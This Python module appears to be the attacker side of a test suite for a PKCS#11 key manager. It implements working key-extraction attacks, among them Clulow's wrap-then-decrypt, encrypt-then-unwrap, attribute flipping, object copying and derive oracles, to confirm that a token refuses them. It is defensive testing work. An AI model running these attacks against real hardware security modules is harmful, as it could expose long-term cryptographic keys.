"""The attacker of the API-attack suite: python-pkcs11 used directly, with the user's login.

The attacker holds the user PIN (a compromised application host, a malicious
insider), so it may call any PKCS#11 function on any object the user can see.
What it must never get is a long-term key's value in the clear.

Every attack here is one function ``attack(session, target, **) -> Result``
that performs the known steps and reports, per step, whether the *token*
refused it, and what key material (if any) came out. Two details keep the
results honest:

* :func:`armed` rebuilds a python-pkcs11 object with every capability mixin,
  so that python-pkcs11 never refuses a call for want of a ``decrypt`` method
  (it picks mixins from CKA_DECRYPT & co., STACK-FACTS.md 9): each forbidden
  call reaches C_DecryptInit / C_WrapKey / ... and the token itself decides.
* an attack "wins" only when it recovers bytes that depend on the target's
  value; the mutation tests (tests/security/test_attack_mutations.py) run the
  same functions on weakened templates with known values and check that the
  recovered bytes are exactly the key, so a win is never a false alarm and a
  defeat is never a broken attack.
"""

from __future__ import annotations

import contextlib
import os
import re
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from typing import Any

import pkcs11
import pkcs11.exceptions as p11x
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from cryptography.hazmat.primitives.keywrap import InvalidUnwrap, aes_key_unwrap, aes_key_wrap
from pkcs11 import MGF, Attribute, KeyType, Mechanism, ObjectClass, _pkcs11

from keymgr.hsm._errors import code_name

raw: Any = _pkcs11  # the compiled classes, which the type stubs do not list

__all__ = ["Target", "Result", "Step", "armed", "find", "ATTACKS", "FLIPPABLE"]

#: CKR codes python-pkcs11 0.10.1 raises as a bare PKCS11Error ("Unmapped error code 0x68").
_UNMAPPED = {0x68: "CKR_KEY_FUNCTION_NOT_PERMITTED", 0x1B: "CKR_ACTION_PROHIBITED",
             0x6A: "CKR_KEY_NOT_WRAPPABLE", 0x6B: "CKR_KEY_UNEXTRACTABLE"}
#: Attributes an attacker would like to turn on (or, for SENSITIVE, off).
FLIPPABLE = {"SENSITIVE": False, "EXTRACTABLE": True, "WRAP": True, "DECRYPT": True, "ENCRYPT": True,
             "UNWRAP": True, "DERIVE": True, "SIGN": True, "VERIFY": True, "MODIFIABLE": True, "COPYABLE": True,
             "WRAP_WITH_TRUSTED": False}
_READABLE = {Attribute.SENSITIVE: False, Attribute.EXTRACTABLE: True}
_IV = bytes(16)


@dataclass(frozen=True)
class Target:
    """A key the attacker goes after: found by CKA_ID, made by keymgr from template ``purpose``."""

    purpose: str
    key_id: bytes
    object_class: ObjectClass = ObjectClass.SECRET_KEY
    #: a wrap-capable key made by keymgr on the same token (a ``kw`` KEK), the attacker's lever
    lever_id: bytes | None = None


@dataclass(frozen=True)
class Step:
    name: str
    allowed: bool
    code: str | None = None  # the CKR code of a refusal


@dataclass
class Result:
    """What one attack did: each step's answer, and the key-dependent bytes recovered (if any)."""

    attack: str
    steps: list[Step] = field(default_factory=list)
    leaked: bytes | None = None

    @property
    def refusals(self) -> list[Step]:
        return [s for s in self.steps if not s.allowed]

    def summary(self) -> str:
        parts = [f"{s.name}: {'allowed' if s.allowed else s.code}" for s in self.steps]
        return f"{self.attack}: " + "; ".join(parts) + ("; LEAKED" if self.leaked is not None else "")


def ckr(exc: BaseException) -> str:
    name = code_name(exc)
    if name == "PKCS11Error":
        match = re.search(r"0x([0-9a-fA-F]+)", str(exc))
        if match:
            code = int(match.group(1), 16)
            return _UNMAPPED.get(code, f"CKR_0x{code:X}")
    return name


def attempt(result: Result, name: str, call: Callable[..., Any]) -> Any:
    """Run one attack step; record whether the token allowed it; the step's value or None."""
    try:
        value = call()
    except (p11x.PKCS11Error, NotImplementedError) as exc:
        result.steps.append(Step(name, False, ckr(exc) if isinstance(exc, p11x.PKCS11Error) else "not implemented"))
        return None
    result.steps.append(Step(name, True))
    return value


def armed(obj: Any) -> Any:
    """``obj`` with every capability mixin, so the token (not python-pkcs11) refuses what is forbidden."""
    base = {ObjectClass.SECRET_KEY: raw.SecretKey, ObjectClass.PRIVATE_KEY: raw.PrivateKey,
            ObjectClass.PUBLIC_KEY: raw.PublicKey}[obj.object_class]
    bases = (base, raw.EncryptMixin, raw.DecryptMixin, raw.SignMixin, raw.VerifyMixin, raw.WrapMixin,
             raw.UnwrapMixin, raw.DeriveMixin, raw.Object)
    return type(base.__name__, bases, {})(obj.wrapper)


def find(session: pkcs11.Session, key_id: bytes, object_class: ObjectClass = ObjectClass.SECRET_KEY) -> Any:
    found = list(session.get_objects({Attribute.CLASS: object_class, Attribute.ID: key_id}))
    assert len(found) == 1, f"expected one object with id {key_id.hex()}, found {len(found)}"
    return armed(found[0])


def attacker_key(session: pkcs11.Session, value: bytes, **roles: bool) -> Any:
    """A key the attacker made itself, of a value it knows (C_CreateObject is open to the user)."""
    attrs = {Attribute.CLASS: ObjectClass.SECRET_KEY, Attribute.KEY_TYPE: KeyType.AES, Attribute.TOKEN: False,
             Attribute.VALUE: value, Attribute.SENSITIVE: False, Attribute.EXTRACTABLE: True}
    attrs.update({Attribute[name]: flag for name, flag in roles.items()})
    return armed(session.create_object(attrs))


def _ecb(key_call: Callable[..., Any]) -> Callable[[bytes], bytes]:
    return lambda block: bytes(key_call(block))


def kw_unwrap_with_oracle(blob: bytes, decrypt_block: Callable[[bytes], bytes]) -> bytes | None:
    """RFC 3394 unwrap of ``blob`` given only an AES-ECB *decryption oracle* under the wrapping
    key (Clulow's point: a key that decrypts can undo its own wraps)."""
    n = len(blob) // 8 - 1
    a, r = blob[:8], [blob[8 * (i + 1):8 * (i + 2)] for i in range(n)]
    for j in range(5, -1, -1):
        for i in range(n, 0, -1):
            t = (n * j + i).to_bytes(8, "big")
            b = decrypt_block(bytes(x ^ y for x, y in zip(a, t, strict=True)) + r[i - 1])
            a, r[i - 1] = b[:8], b[8:]
    return b"".join(r) if a == b"\xa6" * 8 else None


def kw_wrap_with_oracle(key: bytes, encrypt_block: Callable[[bytes], bytes]) -> bytes:
    """RFC 3394 wrap of ``key`` given only an AES-ECB *encryption oracle* under the KEK."""
    n = len(key) // 8
    a, r = b"\xa6" * 8, [key[8 * i:8 * (i + 1)] for i in range(n)]
    for j in range(6):
        for i in range(1, n + 1):
            b = encrypt_block(a + r[i - 1])
            t = (n * j + i).to_bytes(8, "big")
            a, r[i - 1] = bytes(x ^ y for x, y in zip(b[:8], t, strict=True)), b[8:]
    return a + b"".join(r)


def _wrappers(session: pkcs11.Session, target: Target) -> Iterable[tuple[str, Any]]:
    """The keys the attacker can try to wrap ``target`` under: keymgr's kw KEK and the target itself."""
    if target.lever_id is not None:
        yield "keymgr kw KEK", find(session, target.lever_id)
    if target.object_class == ObjectClass.SECRET_KEY:
        yield "the key itself", find(session, target.key_id)


# -- the attacks ----------------------------------------------------------------------------------------------


def clulow_wrap_then_decrypt(session: pkcs11.Session, target: Target) -> Result:
    """Clulow 2003: wrap the target under W, then ask W to *decrypt* the wrapped blob.
    AES-CBC wrap + AES-CBC decrypt gives the value at once; AES-KW wrap is undone with
    W's ECB decryption as an oracle."""
    result = Result("wrap-then-decrypt")
    victim = find(session, target.key_id, target.object_class)
    for who, wrapper in _wrappers(session, target):
        blob = attempt(result, f"C_WrapKey(AES_CBC) under {who}",
                       lambda w=wrapper: bytes(w.wrap_key(victim, mechanism=Mechanism.AES_CBC, mechanism_param=_IV)))
        if blob is not None:
            result.leaked = attempt(result, f"C_Decrypt(AES_CBC) under {who}", lambda w=wrapper, b=blob: bytes(
                w.decrypt(b, mechanism=Mechanism.AES_CBC, mechanism_param=_IV))) or result.leaked
        blob = attempt(result, f"C_WrapKey(AES_KEY_WRAP) under {who}",
                       lambda w=wrapper: bytes(w.wrap_key(victim, mechanism=Mechanism.AES_KEY_WRAP)))
        oracle = _ecb(lambda block, w=wrapper: w.decrypt(block, mechanism=Mechanism.AES_ECB))
        if attempt(result, f"C_Decrypt(AES_ECB) under {who}", lambda o=oracle: o(bytes(16))) is not None and blob:
            result.leaked = kw_unwrap_with_oracle(blob, oracle) or result.leaked
    return result


def encrypt_then_unwrap(session: pkcs11.Session, target: Target) -> Result:
    """Clulow 2003 / DKS 2008: encrypt a key of known value under the target (C_Encrypt), then
    unwrap that ciphertext under the target: the token now holds an attacker-known key that
    the target vouches for, with any attributes the attacker asked for (WRAP+DECRYPT, say).
    The leak is that planted key's value, read back (it equals the attacker's choice)."""
    result = Result("encrypt-then-unwrap")
    key = find(session, target.key_id, target.object_class)
    chosen = os.urandom(32)
    cbc = attempt(result, "C_Encrypt(AES_CBC) of a chosen key", lambda: bytes(
        key.encrypt(chosen, mechanism=Mechanism.AES_CBC, mechanism_param=_IV)))
    oracle = _ecb(lambda block: key.encrypt(block, mechanism=Mechanism.AES_ECB))
    kw = None
    if attempt(result, "C_Encrypt(AES_ECB) as a KW oracle", lambda: oracle(bytes(16))) is not None:
        kw = kw_wrap_with_oracle(chosen, oracle)
    for mech, blob, param in ((Mechanism.AES_CBC, cbc, _IV), (Mechanism.AES_KEY_WRAP, kw, None)):
        if blob is None:
            blob, param = os.urandom(40), param  # still ask: the token must refuse the unwrap itself
        planted = attempt(result, f"C_UnwrapKey({mech.name}) of the ciphertext", lambda m=mech, b=blob, p=param: (
            key.unwrap_key(ObjectClass.SECRET_KEY, KeyType.AES, b, mechanism=m, mechanism_param=p,
                           template={**_READABLE, Attribute.WRAP: True, Attribute.DECRYPT: True})))
        if planted is not None:
            value = bytes(planted[Attribute.VALUE])
            planted.destroy()
            if value == chosen:
                result.leaked = value
    return result


def wrap_under_attacker_key(session: pkcs11.Session, target: Target) -> Result:
    """Wrap the target under a key the attacker created (known value), then unwrap offline."""
    result = Result("wrap under attacker key")
    victim = find(session, target.key_id, target.object_class)
    value = os.urandom(32)
    mine = attacker_key(session, value, WRAP=True, UNWRAP=True, ENCRYPT=True, DECRYPT=True)
    try:
        blob = attempt(result, "C_WrapKey(AES_KEY_WRAP_PAD) under the attacker's key",
                       lambda: bytes(mine.wrap_key(victim, mechanism=Mechanism.AES_KEY_WRAP_PAD)))
        if blob is not None:
            from cryptography.hazmat.primitives.keywrap import aes_key_unwrap_with_padding

            result.leaked = aes_key_unwrap_with_padding(value, blob)
    finally:
        mine.destroy()
    return result


def flip_attributes(session: pkcs11.Session, target: Target) -> Result:
    """C_SetAttributeValue on each protective attribute; a change the token keeps is a win (it
    unlocks the other attacks), and a readable CKA_VALUE afterwards is a leak."""
    result = Result("attribute flipping")
    victim = find(session, target.key_id, target.object_class)
    for name, wanted in FLIPPABLE.items():
        attribute = Attribute[name]
        before = attempt(result, f"read CKA_{name}", lambda a=attribute: victim[a])
        attempt(result, f"C_SetAttributeValue(CKA_{name}={wanted})",
                lambda a=attribute, w=wanted: victim.__setitem__(a, w))
        if result.steps[-1].allowed and victim[attribute] == wanted and before != wanted:
            result.leaked = result.leaked or b""  # the flip held: a capability was gained
    for secret in (Attribute.VALUE, Attribute.PRIVATE_EXPONENT):
        value = attempt(result, f"read {secret.name}", lambda a=secret: bytes(victim[a]))
        if value:
            result.leaked = value
    return result


def copy_object(session: pkcs11.Session, target: Target) -> Result:
    """C_CopyObject with weaker attributes (and a plain copy, which could then be flipped)."""
    result = Result("C_CopyObject")
    victim = find(session, target.key_id, target.object_class)
    for label, changes in (("as is", {}), ("DECRYPT on", {Attribute.DECRYPT: True}),
                           ("WRAP on", {Attribute.WRAP: True}), ("readable", dict(_READABLE)),
                           ("modifiable", {Attribute.MODIFIABLE: True})):
        copy = attempt(result, f"C_CopyObject({label})",
                       lambda c=changes: armed(victim.copy({Attribute.TOKEN: False, **c})))
        if copy is None:
            continue
        try:
            gained = [a for a, v in changes.items() if copy[a] == v]
            if gained or label == "as is":
                result.leaked = result.leaked or b""  # a copy exists outside keymgr's keyring
            with contextlib.suppress(p11x.PKCS11Error):
                result.leaked = bytes(copy[Attribute.VALUE])
        finally:
            copy.destroy()
    return result


def unwrap_weaker(session: pkcs11.Session, target: Target) -> Result:
    """Wrap the target under a key keymgr made (its kw KEK or the key itself), then C_UnwrapKey
    the blob under the same key with SENSITIVE false / EXTRACTABLE true and read the value."""
    result = Result("unwrap with a weaker template")
    victim = find(session, target.key_id, target.object_class)
    for who, wrapper in _wrappers(session, target):
        blob = attempt(result, f"C_WrapKey(AES_KEY_WRAP_PAD) under {who}",
                       lambda w=wrapper: bytes(w.wrap_key(victim, mechanism=Mechanism.AES_KEY_WRAP_PAD)))
        weak = attempt(result, f"C_UnwrapKey under {who} as readable", lambda w=wrapper, b=blob: w.unwrap_key(
            ObjectClass.SECRET_KEY, KeyType.GENERIC_SECRET, b or os.urandom(40), mechanism=Mechanism.AES_KEY_WRAP_PAD,
            template=dict(_READABLE)))
        if weak is not None:
            value = bytes(weak[Attribute.VALUE])
            weak.destroy()
            if blob is not None:
                result.leaked = value
    return result


def wrong_purpose(session: pkcs11.Session, target: Target) -> Result:
    """Use the key for what its purpose forbids: encrypt/decrypt with a kw KEK, wrap/unwrap with a
    gcm KEK or the MAC key, sign with a KEK. The forbidden roles are the template's own."""
    from keymgr.hsm.templates import TEMPLATES

    result = Result("wrong purpose")
    key = find(session, target.key_id, target.object_class)
    roles = TEMPLATES[target.purpose].roles if target.purpose in TEMPLATES else _base_roles(target.purpose)
    from pkcs11.mechanisms import GCMParams

    calls: dict[str, list[tuple[str, Callable[[], Any]]]] = {
        "ENCRYPT": [("C_Encrypt(AES_ECB)", lambda: key.encrypt(bytes(16), mechanism=Mechanism.AES_ECB)),
                    ("C_Encrypt(AES_GCM)", lambda: key.encrypt(bytes(32), mechanism=Mechanism.AES_GCM,
                                                               mechanism_param=GCMParams(bytes(12), b"", 128)))],
        "DECRYPT": [("C_Decrypt(AES_ECB)", lambda: key.decrypt(bytes(16), mechanism=Mechanism.AES_ECB)),
                    ("C_Decrypt(AES_CBC)", lambda: key.decrypt(bytes(32), mechanism=Mechanism.AES_CBC,
                                                               mechanism_param=_IV))],
        "WRAP": [("C_WrapKey of an extractable key", lambda: _wrap_own(session, key))],
        "UNWRAP": [("C_UnwrapKey", lambda: key.unwrap_key(ObjectClass.SECRET_KEY, KeyType.AES, os.urandom(40),
                                                          mechanism=Mechanism.AES_KEY_WRAP))],
        "SIGN": [("C_Sign(SHA256_HMAC)", lambda: key.sign(b"x", mechanism=Mechanism.SHA256_HMAC))],
    }
    if target.object_class == ObjectClass.PRIVATE_KEY:  # the private half of a pair: no AES roles to misuse
        calls = {"UNWRAP": [("C_UnwrapKey(RSA_PKCS_OAEP)", lambda: key.unwrap_key(
            ObjectClass.SECRET_KEY, KeyType.AES, os.urandom(256), mechanism=Mechanism.RSA_PKCS_OAEP,
            mechanism_param=(Mechanism.SHA_1, MGF.SHA1, None)))]}
    for role, tries in calls.items():
        if role in roles:
            continue
        for name, call in tries:
            out = attempt(result, name, call)
            if out is not None:
                result.leaked = result.leaked or b""  # a forbidden role worked
    return result


def _wrap_own(session: pkcs11.Session, wrapper: Any) -> bytes:
    mine = attacker_key(session, os.urandom(32))
    try:
        return bytes(wrapper.wrap_key(mine, mechanism=Mechanism.AES_KEY_WRAP))
    finally:
        mine.destroy()


def derive_readable(session: pkcs11.Session, target: Target) -> Result:
    """STACK-FACTS.md 10: C_DeriveKey(AES_ECB_ENCRYPT_DATA) makes a readable key whose value is
    AES-ECB(target, data): an encryption oracle under a KEK that should never encrypt."""
    result = Result("derive a readable key")
    key = find(session, target.key_id, target.object_class)
    data = bytes(range(32))
    for mech, param in ((Mechanism.AES_ECB_ENCRYPT_DATA, data), (Mechanism.AES_CBC_ENCRYPT_DATA, (_IV, data))):
        derived = attempt(result, f"C_DeriveKey({mech.name})", lambda m=mech, p=param: key.derive_key(
            KeyType.GENERIC_SECRET, 256, mechanism=m, mechanism_param=p, template=dict(_READABLE)))
        if derived is not None:
            value = bytes(derived[Attribute.VALUE])
            derived.destroy()
            result.leaked = result.leaked or value  # the ECB one: AES-ECB(target, data)
    return result


def untrusted_wrap(session: pkcs11.Session, target: Target) -> Result:
    """CKA_WRAP_WITH_TRUSTED: wrap the target under an untrusted key (keymgr's kw KEK, the
    attacker's own), and try to make the attacker's key TRUSTED (only the SO may)."""
    result = Result("wrap with an untrusted key")
    victim = find(session, target.key_id, target.object_class)
    value = os.urandom(32)
    attrs = {Attribute.CLASS: ObjectClass.SECRET_KEY, Attribute.KEY_TYPE: KeyType.AES, Attribute.TOKEN: False,
             Attribute.VALUE: value, Attribute.WRAP: True}
    trusted = attempt(result, "C_CreateObject(CKA_TRUSTED=true) as the user",
                      lambda: armed(session.create_object({**attrs, Attribute.TRUSTED: True})))
    mine = trusted if trusted is not None else attacker_key(session, value, WRAP=True)
    try:
        if trusted is None:
            attempt(result, "C_SetAttributeValue(CKA_TRUSTED=true) as the user",
                    lambda: mine.__setitem__(Attribute.TRUSTED, True))
        blob = attempt(result, "C_WrapKey(AES_KEY_WRAP) under the attacker's key",
                       lambda: bytes(mine.wrap_key(victim, mechanism=Mechanism.AES_KEY_WRAP)))
        if blob is not None:
            try:
                result.leaked = aes_key_unwrap(value, blob)
            except InvalidUnwrap:
                result.leaked = blob
    finally:
        mine.destroy()
    if target.lever_id is not None and target.lever_id != target.key_id:
        lever = find(session, target.lever_id)
        attempt(result, "C_WrapKey(AES_KEY_WRAP) under keymgr's kw KEK",
                lambda: bytes(lever.wrap_key(victim, mechanism=Mechanism.AES_KEY_WRAP)))
    return result


def _base_roles(purpose: str) -> tuple[str, ...]:
    """Roles of the templates not in TEMPLATES by name (backup variants, key pairs)."""
    from keymgr.hsm.templates import TEMPLATES

    base = purpose.split("+")[0]
    if base in TEMPLATES:
        return TEMPLATES[base].roles
    return {"keypair-rsa": ("SIGN", "DECRYPT"), "keypair-ec": ("SIGN", "DERIVE")}[purpose]


def aes_ecb(key: bytes, data: bytes) -> bytes:
    """AES-ECB on the host: what a leaked derive oracle computes (mutation tests compare)."""
    encryptor = Cipher(algorithms.AES(key), modes.ECB()).encryptor()  # noqa: S305 - the attack, not a use
    return encryptor.update(data) + encryptor.finalize()


def kw_wrap(kek: bytes, key: bytes) -> bytes:
    return aes_key_wrap(kek, key)


ATTACKS: dict[str, Callable[[pkcs11.Session, Target], Result]] = {
    "wrap-then-decrypt": clulow_wrap_then_decrypt,
    "encrypt-then-unwrap": encrypt_then_unwrap,
    "wrap-under-attacker-key": wrap_under_attacker_key,
    "flip-attributes": flip_attributes,
    "copy-object": copy_object,
    "unwrap-weaker-template": unwrap_weaker,
    "wrong-purpose": wrong_purpose,
    "derive-readable": derive_readable,
    "untrusted-wrap": untrusted_wrap,
}
